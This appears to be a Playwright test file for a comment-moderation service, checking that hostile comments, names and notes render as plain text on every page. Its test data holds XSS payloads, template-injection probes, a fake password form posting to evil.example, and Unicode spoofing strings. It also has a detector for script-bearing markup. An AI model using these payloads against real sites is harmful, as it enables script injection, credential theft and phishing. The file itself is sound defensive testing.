"""Texts that are made to be more than text, wherever somebody can put one: they stay text, on every page.

The same site is set up twice, once with plain sentences and once with these. No dialog, no report of the content
security policy, nothing that runs or loads, and exactly the same elements on either side.
"""

from collections.abc import Iterator

import pytest
from flask import Flask
from playwright.sync_api import Browser
from sqlalchemy import update

from service.db import Database
from service.models import Site
from service.models.moderator import Role
from tests.support.browser import Window, serving
from tests.support.console import add_moderator
from tests.support.full_site import fill
from tests.support.pages import PAGES_OFF_SITE, Stage

HOSTILE = (
    "<script>alert(1)</script> is what somebody wrote under this article about the bridge and its works.",
    "<img src=x onerror=alert(1)> and <svg onload=alert(1)> are two more ways to say the same about it.",
    '"><iframe srcdoc="<script>alert(1)</script>"></iframe> breaks out of an attribute, where one lets it.',
    "'-alert(1)-' {{7*7}} ${7*7} <%= 7*7 %> #{7*7} may mean something to one template engine or another.",
    "javascript:alert(1) data:text/html,<script>alert(1)</script> are addresses that nobody should follow.",
    "</blockquote></article><form action=https://evil.example><input name=password></form> wants a password.",
    "<a hx-get=/console/account hx-trigger=load>x</a><div data-verdict-form hx-on:click=alert(1)>hx</div> hm.",
    "The mayor said \u202eevitisop yrev si egdirb eht\u202c about the bridge, and \u2066isolated\u2069 too.",
    "pаypаl\u200b looks l\u200dike a name you know, with letters borrowed from elsewhere in between them.",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035aalgo " * 10,
    "\U000e0001\U000e0041\U000e0042 tags nobody sees, \ufeff a mark at the wrong place, and \u0000".replace("\x00", "")
    + " an end that is none in this comment.",
    "\u202e\u2066<script>alert(1)</script>\u2069 hides what it is behind marks that turn the direction of a line.",
    "{% set x = cycler.__init__ %}{{ config }} {{ request }} ${{<%[%'\"}}\\. asks a template engine for secrets.",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'> mutates.",
    "g\u043e\u043egle.example and \uff47\uff4f\uff4f\uff47\uff4c\uff45.example look like one and the same name here.",
)
PLAIN = tuple(
    f"Number {number}: a plain sentence about the bridge, as long as anybody may ask." for number in range(15)
)
# What none of our pages has in its body, and what a text must never bring along.
FOREIGN = """() => {
  const tags = ['SCRIPT', 'IFRAME', 'IMG', 'OBJECT', 'EMBED', 'STYLE', 'LINK', 'BASE', 'META', 'MATH', 'VIDEO'];
  const goes = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster'];
  const runs = (a) => /^on|^srcdoc$|^hx-on/.test(a.name)
    || (goes.includes(a.name) && /^\\s*(javascript|data|vbscript):/i.test(a.value));
  const target = (form) => new URL(form.getAttribute('action') || '', location.href);
  const leaves = (one) => one.tagName === 'FORM' && target(one).origin !== location.origin;
  return [...document.body.querySelectorAll('*')]
    .filter((one) => tags.includes(one.tagName) || [...one.attributes].some(runs) || leaves(one))
    .map((one) => one.outerHTML.slice(0, 200)); }"""
# The labels of hidden characters (`visible`) are the one thing that such a text is meant to add.
ELEMENTS = """() => { const counts = {};
  for (const one of document.body.querySelectorAll('*:not(.control)')) {
    const kind = one.tagName + (one.getAttribute('name') ? `[${one.getAttribute('name')}]` : '');
    counts[kind] = (counts[kind] || 0) + 1; }
  return counts; }"""


@pytest.fixture
def stages(database: Database, site: Site, other_site: Site, tries: None) -> tuple[Stage, Stage]:
    """The Gazette with plain sentences, and the Herald with the others; Ada is at home in both."""
    ada = add_moderator(database, "ada@gazette.example", "Ada Holm", gazette=Role.ADMIN, herald=Role.ADMIN)
    ben = add_moderator(database, "ben@gazette.example", "Ben Okafor", gazette=Role.MODERATOR)
    eve = add_moderator(database, "eve@herald.example", HOSTILE[0][:190], herald=Role.MODERATOR)
    plain = fill(database, site, ada, ben, PLAIN)
    with database.write() as session:
        session.execute(update(Site).where(Site.id == other_site.id).values(name=HOSTILE[2][:100]))
    return plain, fill(database, other_site, ada, eve, HOSTILE)


@pytest.fixture
def address(app: Flask) -> Iterator[str]:
    with serving(app) as served:
        yield served


def elements(window: Window) -> dict[str, int]:
    page = window.settle()
    assert page.evaluate(FOREIGN) == [], page.url
    return dict(page.evaluate(ELEMENTS))


@pytest.mark.one_database
@pytest.mark.timeout(900)
def test_hostile_texts_stay_text_on_every_page(browser: Browser, address: str, stages: tuple[Stage, Stage]) -> None:
    assert len(PLAIN) == len(HOSTILE)
    plain, hostile = stages
    window = Window(browser, address, user_agent=f"Mozilla/5.0 {HOSTILE[1]}", refusals=True)
    window.sign_in("ada@gazette.example")
    for path in PAGES_OFF_SITE.values():
        if not path.endswith("/sign-in"):
            window.goto(path)
            elements(window)
    differing = {}
    for with_plain, with_hostile in zip(plain.addresses(), hostile.addresses(), strict=True):
        window.goto(with_plain)
        before = elements(window)
        window.goto(with_hostile)
        after = elements(window)
        if before != after:
            differing[with_hostile] = {kind: (before.get(kind), after.get(kind)) for kind in before | after
                                       if before.get(kind) != after.get(kind)}  # fmt: skip
    assert differing == {}
    assert window.faults == []
    window.close()


@pytest.mark.one_database
@pytest.mark.timeout(600)
def test_hostile_texts_stay_text_while_one_works(browser: Browser, address: str, stages: tuple[Stage, Stage]) -> None:
    window = Window(browser, address).sign_in("ada@gazette.example")
    page = window.goto("/console/sites/herald/review")
    waiting = page.locator(".row").count()
    assert waiting == len(HOSTILE) - 5
    for _ in range(waiting):
        window.in_panel()
        assert page.evaluate(FOREIGN) == []
        page.keyboard.press("j")
    page.locator(".note-form input[name=note]").fill("<b onclick=alert(1)>note</b>")
    page.locator(".note-form button").click()
    elements(window)
    page = window.goto("/console/sites/herald/policy")
    for button in ("Try the terms on past comments", "Preview"):
        page.get_by_role("button", name=button, exact=True).click()
        elements(window)
    assert window.faults == []
    window.close()
